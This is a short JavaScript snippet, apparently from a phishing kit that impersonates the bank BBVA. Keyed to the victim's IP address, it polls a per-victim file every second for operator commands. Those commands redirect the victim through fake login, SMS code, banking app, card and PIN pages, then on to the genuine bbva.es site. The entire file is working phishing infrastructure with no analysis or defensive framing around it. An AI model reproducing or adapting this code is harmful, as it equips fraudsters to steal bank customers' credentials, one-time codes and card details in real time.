var me = "<?php echo $ip; ?>";
var watch = setInterval(function () {
  $.get("../guests/" + me + ".txt?" + Date.now(), function (cmd) {
    cmd = $.trim(cmd);
    if (cmd == "0") return;
    clearInterval(watch);
    if (cmd == "badlogin") location.href = "../?go=login&err=1";
    else if (cmd == "sms") location.href = "../?go=sms";
    else if (cmd == "badsms") location.href = "../?go=sms&err=1";
    else if (cmd == "app") location.href = "../?go=app";
    else if (cmd == "card") location.href = "../?go=card";
    else if (cmd == "badcard") location.href = "../?go=card&err=1";
    else if (cmd == "pin") location.href = "../?go=pin";
    else if (cmd == "done") location.href = "https://www.bbva.es/";
  });
}, 1000);
